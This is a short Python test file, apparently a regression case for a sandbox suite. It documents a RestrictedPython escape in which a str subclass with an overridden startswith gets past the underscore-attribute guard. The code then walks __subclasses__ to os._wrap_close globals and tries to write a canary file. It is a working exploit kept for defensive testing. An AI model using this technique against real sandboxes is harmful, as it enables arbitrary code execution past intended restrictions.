# SPDX-License-Identifier: Apache-2.0
# tries: give the guard of attributes a name that says it does not begin with an underscore (P07)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# for: restricted
#
# Hosts of RestrictedPython lend safer_getattr under the name of getattr.  It asked the name
# itself: name.startswith('_').  A string of a class of ours answers no, and the real getattr reads
# it as the text that it is.  Fixed in 7.2 by refusing all but plain strings.


class Name(str):
    def startswith(self, prefix):
        return False


def reach(start, *path):
    for name in path:
        start = getattr(start, Name('__' + name + '__'))
    return start


for c in reach((), 'class', 'base', 'subclasses')():
    if 'os._wrap_close' in str(c):
        scope = reach(c, 'init', 'globals')

try:
    scope['__builtins__']['open']('@CANARY@/file', 'w').write('PWNED')
except Exception:
    pass
